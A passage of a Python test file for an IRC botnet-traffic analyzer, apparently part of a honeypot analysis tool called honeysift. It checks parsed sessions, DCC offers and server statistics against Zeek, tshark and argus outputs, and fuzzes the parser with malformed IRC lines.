    by_cmd = {row["command"]: row for row in irc_log}
    assert [text(n) for n in s.nicks] == [by_cmd["NICK"]["value"]]
    assert s.user is not None and s.user.username.decode() == by_cmd["USER"]["value"]
    assert [c.channel.decode() for c in s.channels] == [by_cmd["JOIN"]["value"]]
    assert s.outcome == "joined" and s.password == b"test"
    dcc = [d for d in s.dcc if d.offer.kind == b"SEND"]
    assert len(dcc) == 1 and dcc[0].direction == "to_server"
    o = dcc[0].offer
    assert (o.argument.decode(), o.size) == (
        by_cmd["DCC"]["dcc_file_name"],
        int(by_cmd["DCC"]["dcc_file_size"]),
    )
    # the DCC data connection Zeek saw goes to the offered address and port
    data_conn = next(c for c in conn.values() if c["service"] == "irc-dcc-data")
    assert (o.address, o.port) == (data_conn["id.resp_h"], int(data_conn["id.resp_p"]))
    assert any(d.offer.kind == b"CHAT" for d in s.dcc)
    # NAMES: Zeek's irc_names_info printed {tim1, tim2} for #testing
    out = (CORPUS / "expected" / "irc-dcc-send" / "out").read_text()
    zeek_names = re.search(r"irc_names_info, (#\S+), \{\n(.*?)\n\}", out, re.S)
    assert zeek_names is not None
    (b,) = r.botnets
    assert b.channel.decode() == zeek_names.group(1)
    assert [n.nicks for n in b.names] == [len(zeek_names.group(2).split(",\n"))]
    # LUSERS as the trace's lines say (read here with a regex over the raw server stream)
    raw = convs[[c.uid for c in convs].index(s.uid)].from_server
    m251 = re.search(rb" 251 \S+ :There are (\d+) users and (\d+) invisible on (\d+) servers", raw)
    m266 = re.search(rb" 266 \S+ :Current global users: (\d+)\s+Max: (\d+)", raw)
    m250 = re.search(
        rb" 250 \S+ :Highest connection count: (\d+) \((\d+) clients\) \((\d+) connections received",
        raw,
    )
    assert m251 and m266 and m250
    (snap,) = s.lusers
    f = snap.figures
    assert (f["users"], f["invisible"], f["servers"]) == tuple(map(int, m251.groups()))
    assert (snap.global_users, f["max_global_users"]) == tuple(map(int, m266.groups()))
    assert (f["max_connections"], f["max_clients"], f["connections_received"]) == tuple(
        map(int, m250.groups())
    )
    # times and frames: the DCC offer line is in frame 58 (tshark's irc_fields.tsv says so)
    fields = (CORPUS / "oracle" / "irc-dcc-send" / "irc_fields.tsv").read_text().splitlines()
    frame = next(int(ln.split("\t")[0]) for ln in fields if "DCC SEND" in ln)
    assert dcc[0].frame == frame


def test_irc_basic_against_zeek_output_and_lines() -> None:
    convs = conversations_of(_trace("irc-basic"))
    r = analyze_irc(convs)
    (s,) = r.sessions
    zeek = (CORPUS / "expected" / "irc-basic" / "output").read_text()
    section = zeek.split("---------------- irc-basic.pcap -----------------")[1].split("-----")[0]
    nick = re.search(r"nick_message:\s+(\S+)", section).group(1)
    assert [n.decode() for n in s.nicks] == [nick]
    joined = re.findall(r"join_message: \[nick=(\S*), channel=(\S+),", section)
    assert [c.channel.decode() for c in s.channels] == sorted({ch for _, ch in joined})
    assert s.outcome == "joined" and "closed_by_server" in s.facts
    err = re.search(r"error_message: : (.*)", section).group(1)
    assert s.error.decode() == err
    names = re.search(r"names_info: \S+ (\S+): (.*)", section)
    (b,) = r.botnets
    assert b.channel.decode() == names.group(1)
    assert [n.nicks for n in b.names] == [len(names.group(2).split(","))]
    assert b.quit_lines == 1 and b.join_lines == 1 and b.join_hosts == b.quit_hosts == 1
    net = re.search(r"network_info: (\d+) users, \d+ services, (\d+) servers", section)
    glob = re.search(r"global_users: \S+\s+Current global users (\d+), max (\d+)", section)
    (snap,) = b.lusers
    assert (snap.figures["users"], snap.figures["servers"]) == tuple(map(int, net.groups()))
    assert (snap.global_users, snap.figures["max_global_users"]) == tuple(map(int, glob.groups()))
    chans = re.search(r"channel_info: (\d+) channels", section).group(1)
    assert snap.figures["channels"] == int(chans)
    assert s.server_names == [b"leguin.freenode.net"]


def test_irc_353_refused_and_lone_353() -> None:
    convs = conversations_of(_trace("irc-353"))
    flows = (CORPUS / "oracle" / "irc-353" / "flows.txt").read_text().splitlines()[1:]
    rows = [[x.strip() for x in ln.split(",")] for ln in flows]
    r = analyze_irc(convs)
    by = {(s.client, s.client_port): s for s in r.sessions}
    assert len(by) == 2
    for _, _, src, sport, _, dst, dport, *_, state in rows:
        if dport != "6666":
            continue
        s = by[(src, int(sport))]
        assert (s.server, s.server_port) == (dst, int(dport))
        # argus: a REQ answered by a reverse RST record = refused; FIN = set up, then closed
        answered_rst = any(
            (r_[2], r_[3], r_[5], r_[6], r_[-1]) == (dst, dport, src, sport, "RST") for r_ in rows
        )
        want = (
            "refused"
            if state == "REQ" and answered_rst
            else {"FIN": "closed_during_registration"}[state]
        )
        assert s.outcome == want
    lone = by[("127.0.0.1", 65389)]
    assert lone.lines_to_server == 1 and lone.lines_from_server == 0 and lone.names == []
    assert r.botnets == []


def test_scenario_capture_end_to_end(tmp_path) -> None:
    """The SotM 27 scenario capture (tests/scenario), read with honeysift.open and reassembled
    here, against the generator's ground truth (computed from the lines it wrote)."""
    pytest.importorskip("scapy")
    from honeysift.analysis.irc import IRC_PORTS
    from tests.scenario import sotm27

    g = sotm27.build(tmp_path / "s27.pcap", irc_lines=400, seed=11)
    irc = g.irc
    convs = [c for c in conversations_of(g.path) if c.server_port in IRC_PORTS]
    r = analyze_irc(convs)
    outcome = {s.server: s for s in r.sessions}
    assert outcome[irc.refused_server].outcome == "refused"
    assert outcome[irc.silent_server].outcome == "no_answer"
    nu = outcome[irc.nick_in_use_server]
    assert nu.outcome == "closed_by_server" and nu.nick_in_use == [irc.nick_in_use_nick.encode()]
    assert nu.error is not None and nu.error.endswith(b"(Connection Timed Out)")
    s = outcome[irc.server_ip]
    assert s.outcome == "joined" and s.server_names == [irc.server_name.encode()]
    assert s.password == re.match(rb"PASS (\S+)\r\n", irc.client_stream).group(1)
    assert s.channel(irc.channel.encode()).key == irc.key.encode()
    main = _net(r, irc.channel.encode())
    odd = _net(r, irc.odd_channel)
    assert (main.join_hosts, main.quit_hosts, main.union_hosts) == (
        irc.join_hosts,
        irc.quit_hosts,
        irc.union_hosts,
    )
    assert main.join_lines + odd.join_lines == irc.join_lines  # the bot's JOIN to the odd one
    assert main.quit_lines == irc.quit_lines
    assert (main.kick_lines, main.part_lines, main.nick_lines) == (
        irc.kicks,
        irc.parts,
        irc.nick_changes,
    )
    assert [n.nicks for n in main.names] == [irc.names_count]
    assert main.lusers[0].global_users == irc.users_reported
    assert main.bandwidth_kbps["union_hosts"] == irc.bandwidth_kbps
    assert [t.text for t in main.topics][:1] == [irc.topic.encode()]
    sent = [c.text.decode("latin-1") for c in s.commands if c.kind == "PRIVMSG"]
    assert sent == list(irc.bot_commands)
    (dcc,) = s.dcc
    assert (
        b"\x01"
        + b"DCC "
        + b" ".join(
            [dcc.offer.kind, dcc.offer.argument, dcc.offer.host_raw, str(dcc.offer.port).encode()]
        )
        + b" %d\x01" % dcc.offer.size
        == irc.dcc_offer.encode()
    )
    assert s.pings == len([ln for ln in irc.server_lines if ln.startswith(b"PING ")])


def test_many_channels_bounded() -> None:
    """A hostile stream: the bot 'joins' 3,000 channels, then 3,000 QUITs arrive."""
    rng = random.Random(6)
    c2s, s2c = Direction(rng, [0]), Direction(rng, [0])
    c2s.send(T0, [b"NICK bot"])
    joins = [b":bot!u@h JOIN #c%d" % i for i in range(3000)]
    quits = [b":q%d!u@h%d QUIT :x" % (i, i) for i in range(3000)]
    s2c.send(T0, [b":s.net 001 bot :hi", *joins, *quits])
    r = analyze_irc([conversation("M", "1.1.1.1", 6667, 5, "S1", c2s, s2c)])
    counted = sum(b.quit_lines for b in r.botnets)
    assert counted == 3000 * 64  # each QUIT goes to at most MAX_SHARED_CHANNELS channels


# ------------------------------------------------------------------------------ speed, fuzz
def test_census_of_10k_lines() -> None:
    # its speed: benchmarks/bench_irc_census.py
    conv, tr = build_main(seed=9, events=10_000)
    assert len(conv.from_server) > 600_000
    r = analyze_irc([conv])
    assert _net(r, CHAN).join_lines == tr.join_lines[CHAN.lower()]


_LINES = st.one_of(
    st.binary(max_size=80),
    st.sampled_from(
        [
            b":a!b@c JOIN #x",
            b":a!b@c JOIN",
            b":a!b@c JOIN 0",
            b":a!b@ QUIT",
            b"QUIT",
            b":s 353 me = #x :@a +b",
            b":s 353",
            b":s 353 me #x",
            b":s 366 me #x",
            b":s 366",
            b":s 001 me :hi",
            b":s 001",
            b":s 433 * n :in use",
            b":s 433",
            b"ERROR",
            b"ERROR :x",
            b":s 251 me :There are 5 users and 9 invisible on 2 servers",
            b":s 266 me 1 2 :x",
            b":s 250 me :Highest connection count: 1",
            b":s 252 me",
            b":s 255",
            b":me NICK",
            b":me NICK :new",
            b"NICK",
            b":o MODE #x +kkk",
            b":o MODE #x +k",
            b":o MODE",
            b"MODE #x",
            b":o KICK #x",
            b":o KICK #x a,,b",
            b":o TOPIC",
            b":s 332 me",
            b":s 332 me #x",
            b":o PRIVMSG me :\x01DCC SEND\x01",
            b":o PRIVMSG #x :\x01DCC SEND f 99999999999 99999 x\x01",
            b":o PRIVMSG",
            b"PRIVMSG #x :.x",
            b"PING",
            b":s 324 me #x +k",
            b":s 324 me #x +lk 5",
            b"JOIN #x,#y k1",
            b"USER",
            b"PASS",
            b"@t=1 :s 001 me :x",
            b"\x00\xff",
            b":",
            b" ",
        ]
    ),
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(_LINES, max_size=30),
    st.lists(_LINES, max_size=10),
    st.sampled_from(["", "S0", "REJ", "SF", "S1", "RSTR", "OTH", "weird"]),
    st.sampled_from([b"\r\n", b"\n", b"\r"]),
    st.lists(st.integers(0, 4000), max_size=5),
)
def test_hostile_lines_never_raise(srv, cli, state, eol, offs) -> None:
    s2c = eol.join(srv)
    c2s = eol.join(cli)
    conv = IrcConversation(
        "F",
        "1.1.1.1",
        1,
        "2.2.2.2",
        6667,
        T0,
        T0 + 1,
        state,
        c2s,
        s2c,
        to_server_offsets=np.array(sorted(offs), np.int64),
        to_server_frames=np.arange(len(offs), dtype=np.uint64),
        to_server_ts=np.full(len(offs), T0),
        from_server_offsets=np.array(sorted(offs), np.int64),
        from_server_frames=np.arange(len(offs), dtype=np.uint64),
        from_server_ts=np.full(len(offs) + 1, T0),  # misaligned on purpose
    )
    r = analyze_irc([conv, conv])
    json.dumps(r.to_dict())
    out = render_irc(r)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", out)
